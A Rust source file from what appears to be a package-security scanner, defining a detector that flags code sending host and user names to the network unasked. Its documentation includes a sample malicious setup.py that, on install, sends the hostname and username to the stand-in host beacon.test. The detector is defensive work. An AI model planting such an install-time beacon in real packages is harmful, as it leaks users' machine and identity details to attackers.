//! Host and user names are sent away unasked.

use bulkhead_core::{Confidence, FindingContext, Severity};

use super::code::{Rule, beside, fixed_address, quoted, say, when};
use super::install_network;
use crate::archive::Archive;
use crate::behaviour::{Ability, Sources, unasked};
use crate::detector::Meta;
use crate::findings::Findings;

const META: Meta = Meta {
    id: "recon-beacon",
    title: "host and user names are sent away unasked",
    severity: Severity::High,
    confidence: Confidence::High,
    doc: "\
The name of the machine, the user or the platform is sent somewhere without anybody calling the package: the mark of a dependency-confusion probe,
and the first step of a thief who sorts victims.

```recipe bad
archive demo-1.0.tar.gz
--- demo-1.0/setup.py
import socket, getpass, requests
from setuptools import setup
requests.get('https://beacon.test/?h=' + socket.gethostname() + '&u=' + getpass.getuser())
setup(name='demo')
```

```recipe good
archive demo-1.0-py3-none-any.whl
--- demo/__init__.py
import platform
USER_AGENT = 'demo ' + platform.platform()
```

What to do: refuse the release; if it is your own, read the line that is shown.
",
};

/// See its `META`.
pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };

fn check(archive: &Archive, findings: &mut Findings) {
    for behaviour in &archive.code.behaviours {
        let effect = &behaviour.effect;
        if !matches!(effect.ability, Ability::Network | Ability::Dns) || !unasked(behaviour.context) {
            continue;
        }
        if effect.from.any(Sources::SYSTEM) && effect.ability == Ability::Network {
            let named = effect.detail.as_deref().is_some_and(|detail| detail.contains("://") || fixed_host(detail));
            let (severity, confidence) = match (behaviour.context, named) {
                (FindingContext::Install, _) => (Severity::High, Confidence::High),
                (_, true)
                    if effect.detail.as_deref().is_some_and(|detail| fixed_address(detail) || fixed_host(detail)) =>
                {
                    (Severity::High, Confidence::High)
                }
                (_, true) => (Severity::High, Confidence::Medium),
                (_, false) => (Severity::Medium, Confidence::Low),
            };
            say(
                findings,
                &META,
                behaviour,
                (severity, confidence),
                format!(
                    "who and where this machine is goes to the network {}: {}",
                    when(behaviour.context),
                    quoted(behaviour)
                ),
            );
        } else if effect.ability == Ability::Network
            && beside(archive, behaviour, Ability::SystemInfo, Sources::NONE)
            && !install_network::fetches_data(archive, behaviour)
        {
            say(
                findings,
                &META,
                behaviour,
                (Severity::Medium, Confidence::Low),
                format!(
                    "the file asks who and where this machine is and talks to the network {}: {}",
                    when(behaviour.context),
                    quoted(behaviour)
                ),
            );
        }
    }
}

/// A host as `connect` takes it: a name with letters, nothing unknown in it.
fn fixed_host(detail: &str) -> bool {
    let host = detail.split(' ').next().unwrap_or_default();
    host.contains('.')
        && host.bytes().any(|byte| byte.is_ascii_alphabetic())
        && host.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-'))
}
